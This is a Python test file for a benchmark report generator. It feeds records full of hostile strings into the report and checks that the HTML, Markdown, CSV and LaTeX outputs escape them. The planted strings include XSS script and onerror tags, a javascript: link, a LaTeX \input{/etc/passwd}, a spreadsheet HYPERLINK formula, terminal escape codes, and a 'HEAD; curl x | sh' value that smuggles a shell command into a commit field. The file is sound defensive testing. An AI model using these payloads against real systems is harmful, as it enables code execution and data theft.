"""Records from a stranger: hostile strings in every text of a record, and a check of everything that is written."""

from __future__ import annotations

import csv
import io
import re
from collections import defaultdict
from collections.abc import Sequence
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import Any

import pytest
import yaml

from benchmarks.planning import Plan, Trial
from benchmarks.records.archive import table
from benchmarks.records.record import Record
from reports.build import build_report
from reports.findings.comparison import gather
from reports.findings.summary import summarise
from reports.page import html
from reports.page.content import FILES, content_of
from tests.fabricated import Shelf, fail, make_plan, make_suite

HOSTILE = (
    "</pre></td><script>document.title='owned'</script><img src=x onerror=alert(1)>\"'><b>",
    "|a|b|\n\n```\n<script>x</script>\n~~~\n# Title\n[a](javascript:x) ![i](http://x/y.png) **b** `c` www.x.y @z",
    "\\input{/etc/passwd} $x$ 50% & # _ ^ ~ { } [ \\\\ \\end{table} 日本",
    ' \n=HYPERLINK("http://x","y")',
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b31m \r\x08\x00\x7f \u202eesrever \ud800",
    "HEAD; curl x | sh #",
)
KEPT = {"status", "data_digest"}
"""Texts that a report cannot do without, or that must be the same in all records."""


class Planting:
    """Replaces every text of records: each field meets every hostile text, as there are more trials than texts."""

    def __init__(self, texts: Sequence[str]) -> None:
        self.texts, self.trials, self.fields = texts, 0, 0

    def next(self) -> str:
        self.fields += 1
        return self.texts[(self.trials + self.fields) % len(self.texts)]

    def planted(self, value: Any, key: str = "") -> Any:
        """Names of search phases stay names of search phases."""
        if isinstance(value, str):
            return value if key in KEPT else f"search/{self.next()}" if value.startswith("search/") else self.next()
        if isinstance(value, dict):
            return {of: self.planted(inner, of) for of, inner in value.items()}
        return [self.planted(inner, key) for inner in value] if isinstance(value, list) else value

    def __call__(self, trial: Trial, result: dict[str, Any], observed: dict[str, Any]) -> None:
        self.trials, self.fields = self.trials + 1, 0
        text = self.next()
        if trial.row == "metamix":
            fail(result, observed)
        else:
            traces = {self.next(): {"mean": 0.0, "standard_error": 1.0}}
            result["search"] |= {"note": text, text: text, "weight_traces": traces}
            if policy := result["policy"]:
                policy["layers"] = {
                    self.texts[-3 % len(self.texts)] + name: bits for name, bits in policy["layers"].items()
                }
        observed["environment"] |= {text: text, "quantizer": text, "compile": True}
        for part in (result, observed):
            changed = self.planted(part)
            part.clear()
            part.update(changed)


class Strangers(Shelf):
    """Records in memory, one of them with another result: nothing has judged their texts before a report is made."""

    def __init__(self, plan: Plan, texts: Sequence[str]) -> None:
        super().__init__(plan, Planting(texts))
        first = next(iter(self))
        environment = {**first.observed["environment"], "more": texts[0]}
        result, observed = {**first.result, "network_digest": "x"}, {**first.observed, "environment": environment}
        self.other = replace(first, result=result, observed=observed)

    def disputed(self) -> tuple[Record, ...]:
        return (self.other,)


def compared(texts: Sequence[str]) -> tuple[Plan, Strangers]:
    methods = ["float", "uniform-lsq", "hawq", "metamix", "random"]
    plan = make_plan(make_suite(methods, ceilings=("uniform:w4a3", "uniform:w4a4"), seeds=(0, 1)))
    return plan, Strangers(plan, texts)


@cache
def files() -> dict[str, str]:
    """Every text that a report of hostile records writes, by file name."""
    with TemporaryDirectory() as folder:
        report = build_report(*compared(HOSTILE), Path(folder))
        written = [path for path in report.paths if path.suffix not in (".pdf", ".png")]
        return {path.name: path.read_text(encoding="utf-8") for path in written}


class Page(HTMLParser):
    """Tags, and attributes with their values."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += attrs


def harmless() -> Page:
    """The page of the same records with plain words in their place; its figures are empty."""
    comparison = gather(*compared(["plain"]))
    content = content_of(comparison, summarise(comparison), files=FILES)
    return Page(html.render(content, defaultdict(bytes)))


def test_no_text_of_a_record_becomes_a_tag_or_an_attribute_of_the_page():
    page, plain = Page(files()["index.html"]), harmless()
    assert set(page.tags) == set(plain.tags)
    for tag in ("script", "style", "img", "a", "b", "input", "pre"):
        assert page.tags.count(tag) == plain.tags.count(tag), tag
    assert {name for name, _ in page.attributes} == {name for name, _ in plain.attributes}
    addresses = [str(value) for name, value in page.attributes if name in ("href", "src")]
    assert all(re.match(r"#|data:image/png;|[a-z]+\.[a-z]+$", address) for address in addresses)


def test_no_text_of_a_record_is_html_or_a_link_in_markdown():
    text = files()["report.md"]
    assert set(re.findall(r"<[^>]*>", text)) <= {
        *("<details>", "<details open>", "</details>", "<summary>", "</summary>", "<pre>", "</pre>"),
    }
    outside = re.sub(r"<pre>.*?</pre>|^```$.*?^```$", "", text, flags=re.DOTALL | re.MULTILINE)
    assert all(re.fullmatch(r"[a-z]+\.[a-z]+", target) for target in re.findall(r"(?<!\\)\]\(([^)]*)\)", outside))
    assert not re.search(r"(?<!\\)`|://|www\.|@", outside)
    assert len(re.findall("^```$", text, re.MULTILINE)) % 2 == 0
    assert "# Title" in text
    assert "# Title" not in re.findall(r"^#+ .*$", outside, re.MULTILINE)


def test_every_row_of_a_markdown_table_has_its_columns():
    blocks = re.findall(r"(?:^\|.*\|$\n?)+", files()["report.md"], re.MULTILINE)
    assert len(blocks) > 8
    for block in blocks:
        assert len({len(re.findall(r"(?<!\\)\|", line)) for line in block.splitlines()}) == 1


def test_no_command_to_reproduce_comes_from_a_record():
    for name in ("index.html", "report.md"):
        text = files()[name]
        assert "git checkout" not in text
        assert re.search(r"(```\n|<pre>)python runner\.py --suite PATH/TO/REPORT/suite\.yaml(\n```|</pre>)", text)
        assert "Of 18 of 18 records the commit is not known." in text


def test_nothing_that_is_written_moves_a_cursor_or_turns_its_direction():
    for name, text in files().items():
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\ud800]", text), name


def test_no_cell_of_a_sheet_is_a_formula():
    for name, text in files().items():
        if name.endswith(".csv"):
            rows = list(csv.reader(io.StringIO(text)))
            assert len({len(row) for row in rows}) == 1
            cells = [cell for row in rows for cell in row if re.match(r"\s*[=+\-@]", cell)]
            assert all(re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?", cell) for cell in cells), name


def test_no_text_of_a_record_is_a_command_of_latex():
    text = files()["table.tex"]
    known = r"begin|end|centering|caption|resizebox|linewidth|toprule|midrule|bottomrule|textbf|cite|textbackslash"
    known += r"|textasciitilde|textasciicircum|textless|textgreater|textbar|textperiodcentered|pm|Delta|times"
    assert {*re.findall(r"\\([a-zA-Z]+)", text)} <= {*known.split("|")}
    assert text.count("{") - text.count(r"\{") == text.count("}") - text.count(r"\}")
    assert not re.search(r"(?<!\\)%(?!\n)", text)
    assert all(ord(character) < 0x180 for character in text)


def test_the_suite_is_read_back():
    assert yaml.safe_load(files()["suite.yaml"])["suite"] == "fabricated"


@pytest.mark.parametrize(
    ("commit", "named"),
    [
        ("0123456789" * 4, True),
        ("HEAD; curl x | sh", False),
        ("ABCDEF0123" * 4, False),
        ("0123456789" * 4 + "\n", False),
    ],
)
def test_only_a_commit_is_checked_out(commit, named):
    def change(trial, result, observed):
        observed["environment"]["commit"] = commit

    plan = make_plan(make_suite(["float", "uniform-lsq"]))
    comparison = gather(plan, Shelf(plan, change))
    (section,) = (s for s in content_of(comparison, summarise(comparison)).sections if s.id == "reproduce")
    command, said, _ = section.blocks
    assert command.text == f"git checkout {commit}\n" * named + "python runner.py --suite PATH/TO/REPORT/suite.yaml"
    assert ("the commit is not known" in said.text) != named


def test_the_table_beside_an_archive_runs_nothing_either():
    record = next(iter(compared(HOSTILE)[1]))
    method = {**record.spec["method"], "name": " =1+1\x1b[2J"}
    (row,) = csv.DictReader(io.StringIO(table([replace(record, spec={**record.spec, "method": method})])))
    assert (row["method"], row["commit"]) == ("' =1+1", "")
